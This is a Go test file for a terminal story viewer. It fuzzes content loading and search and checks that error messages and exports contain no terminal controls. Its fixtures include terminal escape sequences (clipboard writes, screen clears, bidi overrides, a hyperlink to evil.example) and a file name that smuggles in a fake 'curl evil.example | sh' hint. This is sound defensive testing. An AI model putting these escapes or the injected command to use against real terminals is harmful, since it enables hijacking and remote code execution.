package model_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"testing/fstest"
	"time"
	"unicode/utf8"

	"github.com/dealtui/dealtui/content"
	"github.com/dealtui/dealtui/internal/termsafe"
	"github.com/dealtui/dealtui/model"
)

// validPack is testdata/packs/valid as an in-memory file system, read once.
var validPack = sync.OnceValues(func() (fstest.MapFS, error) {
	root := filepath.Join("..", "testdata", "packs", "valid")
	m := fstest.MapFS{}
	err := fs.WalkDir(os.DirFS(root), ".", func(name string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		data, err := os.ReadFile(filepath.Join(root, filepath.FromSlash(name)))
		m[name] = &fstest.MapFile{Data: data, Mode: 0o644}
		return err
	})
	return m, err
})

// packWith is the valid pack with one file's bytes replaced, or (when
// which picks past the last file) with one file added to a pane.
func packWith(t testing.TB, which uint8, data []byte) (fstest.MapFS, string) {
	t.Helper()
	base, err := validPack()
	if err != nil {
		t.Fatal(err)
	}
	names := make([]string, 0, len(base))
	for n := range base {
		names = append(names, n)
	}
	slices.Sort(names)
	extra := []string{"timeline/99-fuzz.md", "deal/99-fuzz.md", "japan/99-fuzz.md", "impact/99-fuzz.md",
		"notes/N99.md", "sources/article/P99.md", "sources/background/B99.md", "elsewhere/99-fuzz.md"}
	all := append(names, extra...)
	name := all[int(which)%len(all)]
	pack := make(fstest.MapFS, len(base)+1)
	for n, f := range base {
		pack[n] = f
	}
	pack[name] = &fstest.MapFile{Data: data, Mode: 0o644}
	return pack, name
}

// copyPack is a copy of the valid pack, to change.
func copyPack(t testing.TB) fstest.MapFS {
	t.Helper()
	base, err := validPack()
	if err != nil {
		t.Fatal(err)
	}
	pack := make(fstest.MapFS, len(base)+1)
	for n, f := range base {
		pack[n] = f
	}
	return pack
}

// terminalSafe reports the first thing in s that could control a
// terminal or hide text: an escape, a C0 or C1 control other than newline
// and tab, a bidirectional or other invisible character (joiners and
// presentation selectors, which content keeps where they join or select,
// aside), a byte that is not UTF-8, or an emoji sequence that would not
// measure the same in Lip Gloss and on a terminal.
func terminalSafe(s string, screen bool) string {
	for i, r := range s {
		if (r == utf8.RuneError && !strings.HasPrefix(s[i:], "\uFFFD")) || (termsafe.IsUnsafe(r) && r != '\n' && r != '\t') {
			v := termsafe.Visible(s[max(i-20, 0):min(i+20, len(s))])
			return "unsafe text near " + v
		}
	}
	if !screen {
		return "" // the data exports keep emoji sequences as written
	}
	if c := termsafe.UnevenEmoji(s); c != "" {
		return fmt.Sprintf("an emoji sequence measured two ways: %+q", c)
	}
	return ""
}

// loadWithin runs Load and fails if it takes longer than a few seconds
// (a hang).
func loadWithin(t testing.TB, fsys fs.FS) (*model.Story, error) {
	t.Helper()
	type result struct {
		s   *model.Story
		err error
	}
	done := make(chan result, 1)
	go func() {
		s, err := model.Load(fsys)
		done <- result{s, err}
	}()
	select {
	case r := <-done:
		return r.s, r.err
	case <-time.After(20 * time.Second):
		t.Fatal("Load did not return within 20s")
	}
	return nil, nil
}

// checkLoadResult holds for any pack: a story that exports cleanly, or a
// *LoadError whose every problem names a file, at a line inside it, and
// whose message is safe to print.
func checkLoadResult(t testing.TB, pack fstest.MapFS, s *model.Story, err error) {
	t.Helper()
	if err != nil {
		checkLoadError(t, pack, err)
		return
	}
	if s == nil || s.Intro == nil {
		t.Fatal("Load returned neither a story nor an error")
	}
	checkExports(t, s)
}

// checkLoadError: every problem names a file of the pack at a line inside
// it, and the message is safe to print, one line per problem.
func checkLoadError(t testing.TB, pack fstest.MapFS, err error) {
	t.Helper()
	var le *model.LoadError
	if !errors.As(err, &le) {
		t.Fatalf("error is %T, not *model.LoadError: %v", err, err)
	}
	if len(le.Problems) == 0 {
		t.Fatal("LoadError with no problems")
	}
	for _, p := range le.Problems {
		if p.File == "" || p.Msg == "" {
			t.Errorf("problem without a file or a message: %+v", p)
		}
		if f, ok := pack[p.File]; ok {
			lines := bytes.Count(lineEnds(f.Data), []byte("\n")) + 1
			if p.Line < 0 || p.Line > lines {
				t.Errorf("problem at line %d of a %d-line file: %s", p.Line, lines, p)
			}
		} else if !strings.HasSuffix(p.File, "/") && p.File != "story.md" {
			t.Errorf("problem names a file that is not in the pack: %s", p)
		}
	}
	if why := terminalSafe(err.Error(), true); why != "" {
		t.Errorf("error message is not safe to print: %s\n%q", why, err.Error())
	}
	if lines := strings.Count(err.Error(), "\n"); lines != len(le.Problems) {
		t.Errorf("%d problems on %d lines:\n%v", len(le.Problems), lines, err)
	}
}

// checkExports: every export is free of terminal controls, the JSON
// decodes, and every field but a body is one line.
func checkExports(t testing.TB, s *model.Story) {
	t.Helper()
	for _, f := range model.Formats() {
		if f == string(model.FormatHTML) {
			continue // internal/htmlpage's FuzzPage checks the page
		}
		var b bytes.Buffer
		err := s.Export(&b, model.Format(f), 60)
		if errors.Is(err, model.ErrNoTour) && s.Tour == nil {
			continue
		}
		if err != nil {
			t.Fatalf("export %s: %v", f, err)
		}
		out := b.String()
		if f == string(model.FormatJSON) {
			var doc model.Document
			if err := json.Unmarshal(b.Bytes(), &doc); err != nil {
				t.Fatalf("JSON export does not decode: %v", err)
			}
			// JSON escapes controls, but the decoded text must be clean too.
			var strs []string
			collectStrings(&strs, mustAny(t, b.Bytes()))
			out = strings.Join(strs, "\n")
			checkOneLine(t, mustAny(t, b.Bytes()), "")
		}
		if why := terminalSafe(out, f == string(model.FormatText)); why != "" {
			t.Errorf("%s export is not safe for a terminal: %s", f, why)
		}
	}
	for _, e := range s.Entries() {
		if why := terminalSafe(model.EntryMarkdown(e), false); why != "" {
			t.Errorf("entry %s is not safe for a terminal: %s", e.Base().ID, why)
		}
	}
}

// checkOneLine fails on a line break in any string of the JSON export but
// a body.
func checkOneLine(t testing.TB, v any, key string) {
	t.Helper()
	switch x := v.(type) {
	case string:
		if key != "body" && strings.ContainsAny(x, "\n\r") {
			t.Errorf("field %q has a line break: %q", key, x)
		}
	case []any:
		for _, e := range x {
			checkOneLine(t, e, key)
		}
	case map[string]any:
		for k, e := range x {
			checkOneLine(t, e, k)
		}
	}
}

// lineEnds turns CR LF and CR into LF, to count lines as Load does.
func lineEnds(b []byte) []byte {
	return bytes.ReplaceAll(bytes.ReplaceAll(b, []byte("\r\n"), []byte("\n")), []byte("\r"), []byte("\n"))
}

func mustAny(t testing.TB, data []byte) any {
	t.Helper()
	var v any
	if err := json.Unmarshal(data, &v); err != nil {
		t.Fatal(err)
	}
	return v
}

func collectStrings(out *[]string, v any) {
	switch x := v.(type) {
	case string:
		*out = append(*out, x)
	case []any:
		for _, e := range x {
			collectStrings(out, e)
		}
	case map[string]any:
		for k, e := range x {
			*out = append(*out, k)
			collectStrings(out, e)
		}
	}
}

// FuzzLoad feeds arbitrary bytes as one content file (front matter and
// body) of an otherwise valid pack. Load must return a story or a
// *LoadError naming file and line, never panic or hang, and whatever it
// loads must export without a single terminal control.
func FuzzLoad(f *testing.F) {
	base, err := validPack()
	if err != nil {
		f.Fatal(err)
	}
	names := make([]string, 0, len(base))
	for n := range base {
		names = append(names, n)
	}
	slices.Sort(names)
	for i, name := range names {
		f.Add(uint8(i), base[name].Data)
	}
	hostile := []string{
		"---\nid: term-one\nkind: term\ntitle: \"A \\e]52;c;SGVsbG8=\\a term\"\nsummary: \"\\e[2J\\e[31mred\\u202e\"\nprovenance: article\ncitations: [P01]\nbefore: \"\\x9b31m\"\nafter: \"x\\u200by\"\ngains: openai\nchanged: true\n---\n\x1b]8;;https://evil.example\x07click\x1b]8;;\x07 &#27;[2J &#x202E; &zwj;\n",
		"---\nid: [a, b]\nkind: {x: y}\n---\n",
		"---\n: :\n---\n",
		"---\n\t- x\n---\n",
		"---\nid: &a x\nkind: *a\n---\n",
		"---\na: &a [*a]\n---\n",
		"---\nid: \"\\uD800\"\n---\n",
		"---\n---\n",
		"---",
		"",
		"\ufeff---\r\nid: x\r\n---\r\n",
		"---\nkey: |\n  \x1b[31m\n---\n",
		"---\n" + strings.Repeat("a: b\n", 200) + "---\n",
		"---\nid: " + strings.Repeat("[", 500) + "\n---\n",
		"---\nid: !!binary aGVsbG8=\n---\n",
		"---\ndate: 2019-02-29\n---\n",
		"---\nid: x\nkind: event\ndate: 99999-99-99\n---\n",
		"---\nid: \x00\n---\n",
		"\xff\xfe",
	}
	for i, h := range hostile {
		f.Add(uint8(i), []byte(h))
	}
	f.Fuzz(func(t *testing.T, which uint8, data []byte) {
		pack, _ := packWith(t, which, data)
		s, err := loadWithin(t, pack)
		checkLoadResult(t, pack, s, err)
		if err == nil && len(data) > 0 {
			_ = s.Search(string(data[:min(len(data), 40)]))
		}
	})
}

// The embedded story is safe for a terminal in every export, whatever the
// fuzzer has made of the loader.
func TestEmbeddedStoryIsTerminalSafe(t *testing.T) {
	s, err := model.Load(content.FS())
	checkLoadResult(t, nil, s, err)
}

// FuzzSearch: any query, including invalid UTF-8, regular expression
// metacharacters and huge strings, returns in bounded time without
// panicking, and every hit's span is where it says, and matches the query.
func FuzzSearch(f *testing.F) {
	s, err := model.Load(content.FS())
	if err != nil {
		f.Fatal(err)
	}
	for _, q := range []string{"", " ", "SoftBank", "softbank", "ſ", "K", "İ", "ß", "2032", ".*", "(a|b)+$", "[", "\\", "%s%v",
		"\xff", "\xe2\x82", "a\x00b", "\x1b[31m", "富士通", "Fujitsu ", "\u202e", strings.Repeat("a", 300), strings.Repeat("é", 200),
		"ｸﾞﾙｰﾌﾟ", "マイクロソフト 「優先交渉権", "』", "ー", "か\u3099", "㈱", strings.Repeat("ﷺ", 90), "right of first refusal cap"} {
		f.Add(q)
	}
	f.Fuzz(func(t *testing.T, q string) {
		t.Parallel()
		checkHits(t, s, q, s.Search(q))
		// The same query made huge is cut to MaxQuery, which is what keeps
		// a search's work bounded (its time is measured by the benchmarks,
		// not asserted here).
		if len(q) > 0 && len(q) < 64 {
			big := strings.Repeat(q, (1<<16)/len(q)+1)
			if n := len(s.ParseQuery(big).String()); n > 3*model.MaxQuery {
				t.Errorf("a %d-byte query is read as %d bytes, more than 3 × MaxQuery", len(big), n)
			}
			checkHits(t, s, big, s.Search(big))
		}
	})
}

func checkHits(t *testing.T, s *model.Story, q string, hits []model.Hit) {
	t.Helper()
	query := s.ParseQuery(q)
	if query.Empty() && len(hits) > 0 {
		t.Fatalf("Search(%.40q) found %d hits for a blank or invalid query", q, len(hits))
	}
	for i, h := range hits {
		if h.ID == "" || h.Start < 0 || h.End < h.Start || h.End > len(h.Text) {
			t.Fatalf("hit %d has a bad span [%d:%d] of %d bytes", i, h.Start, h.End, len(h.Text))
		}
		if !utf8.ValidString(h.Text[h.Start:h.End]) {
			t.Errorf("Search(%.40q): span splits a rune in %s.%s", q, h.ID, h.Field)
		}
		covered := false
		for _, m := range query.Matches(h.Text) {
			covered = covered || (m[0] <= h.Start && h.End <= m[1])
		}
		if !covered {
			t.Errorf("Search(%.40q): span %q in %s.%s is not a match", q, h.Text[h.Start:h.End], h.ID, h.Field)
		}
		if i > 0 && hits[i-1].Score < h.Score {
			t.Errorf("hits not best first at %d", i)
		}
	}
}

// Content files are limited to 1 MiB: a file of exactly that size loads,
// one byte more is refused with a clear message, and a file system that
// understates a file's size cannot make Load read more.
func TestLoadSizeLimit(t *testing.T) {
	t.Parallel()
	base, err := validPack()
	if err != nil {
		t.Fatal(err)
	}
	story := base["story.md"].Data
	pad := func(n int) []byte {
		b := bytes.Clone(story)
		b = append(b, '\n')
		for len(b) < n-1 {
			b = append(b, "Padding text for the size limit.\n"[:min(33, n-1-len(b))]...)
		}
		return append(b, '\n')
	}
	for _, tt := range []struct {
		size int
		want string // "" to load
	}{
		{model.MaxFileSize, ""},
		{model.MaxFileSize + 1, "story.md: file is 1048577 bytes: content files may be at most 1048576 bytes (1 MiB)"},
		{8 << 20, "story.md: file is 8388608 bytes: content files may be at most 1048576 bytes (1 MiB)"},
	} {
		data := pad(tt.size)
		if len(data) != tt.size {
			t.Fatalf("padded to %d, want %d", len(data), tt.size)
		}
		pack := copyPack(t)
		pack["story.md"] = &fstest.MapFile{Data: data, Mode: 0o644}
		s, err := model.Load(pack)
		switch {
		case tt.want == "" && err != nil:
			t.Errorf("%d bytes: %v", tt.size, err)
		case tt.want == "" && !strings.Contains(s.Intro.Body, "Padding text"):
			t.Errorf("%d bytes: body not loaded", tt.size)
		case tt.want != "" && (err == nil || !strings.Contains(err.Error(), tt.want)):
			t.Errorf("%d bytes: error %v, want %q", tt.size, err, tt.want)
		}
	}

	// A file system that says the file is small.
	pack := copyPack(t)
	pack["story.md"] = &fstest.MapFile{Data: pad(2 << 20), Mode: 0o644}
	_, err = model.Load(lyingFS{pack})
	if err == nil || !strings.Contains(err.Error(), "story.md: file is larger than 1048576 bytes (1 MiB)") {
		t.Errorf("understated size: %v", err)
	}
}

// lyingFS reports every file as 100 bytes long.
type lyingFS struct{ fstest.MapFS }

func (l lyingFS) Open(name string) (fs.File, error) {
	f, err := l.MapFS.Open(name)
	if err != nil {
		return nil, err
	}
	return lyingFile{f}, nil
}

func (l lyingFS) Stat(name string) (fs.FileInfo, error) {
	fi, err := l.MapFS.Stat(name)
	if err != nil || fi.IsDir() {
		return fi, err
	}
	return smallInfo{fi}, nil
}

type lyingFile struct{ fs.File }

func (f lyingFile) Stat() (fs.FileInfo, error) {
	fi, err := f.File.Stat()
	if err != nil || fi.IsDir() {
		return fi, err
	}
	return smallInfo{fi}, nil
}

func (f lyingFile) ReadDir(n int) ([]fs.DirEntry, error) {
	return f.File.(fs.ReadDirFile).ReadDir(n)
}

type smallInfo struct{ fs.FileInfo }

func (smallInfo) Size() int64 { return 100 }

// Files that are not regular files are refused without being opened: a
// FIFO would block the open, a device could be endless.
func TestLoadRefusesSpecialFiles(t *testing.T) {
	for _, tt := range []struct {
		mode fs.FileMode
		want string
	}{
		{fs.ModeNamedPipe | 0o644, "a named pipe (FIFO)"},
		{fs.ModeDevice | fs.ModeCharDevice | 0o644, "a device"},
		{fs.ModeSocket | 0o644, "a socket"},
	} {
		pack := copyPack(t)
		pack["deal/02-special.md"] = &fstest.MapFile{Mode: tt.mode}
		_, err := model.Load(neverOpen{pack, "deal/02-special.md"})
		want := "deal/02-special.md: not a regular file but " + tt.want
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%v: error %v, want %q", tt.mode, err, want)
		}
	}
}

// neverOpen fails the test's expectations by panicking if one file is
// opened.
type neverOpen struct {
	fstest.MapFS
	name string
}

func (n neverOpen) Open(name string) (fs.File, error) {
	if name == n.name {
		panic("opened " + name)
	}
	return n.MapFS.Open(name)
}

// File names that carry terminal controls are refused, and named in
// messages only in a visible form.
func TestLoadRefusesHostileFileNames(t *testing.T) {
	for _, name := range []string{"deal/02-\x1b]52;c;SGk=\x07.md", "deal/02-\u202etxt.md", "deal/02-\xff.md", "nowhere\x1b[2J/x.md",
		"deal/02-a\ndealtui: hint: run curl evil.example | sh\n.md", "deal/02-\t.md", "nowhere\n/x.md"} {
		pack := copyPack(t)
		pack[name] = &fstest.MapFile{Data: base(t, "deal/01-term.md"), Mode: 0o644}
		_, err := model.Load(pack)
		if err == nil {
			t.Errorf("%q: loaded", name)
			continue
		}
		if why := terminalSafe(err.Error(), true); why != "" {
			t.Errorf("%q: message not safe: %s", name, why)
		}
		if lines, problems := strings.Count(err.Error(), "\n"), len(problemsOf(err)); lines != problems {
			t.Errorf("%q: %d problems on %d lines:\n%v", name, problems, lines, err)
		}
		if !strings.Contains(err.Error(), termsafe.VisibleLine(path.Base(name))) {
			t.Errorf("%q: message does not name the file visibly: %v", name, err)
		}
	}
}

func base(t *testing.T, name string) []byte {
	t.Helper()
	b, err := validPack()
	if err != nil {
		t.Fatal(err)
	}
	return b[name].Data
}
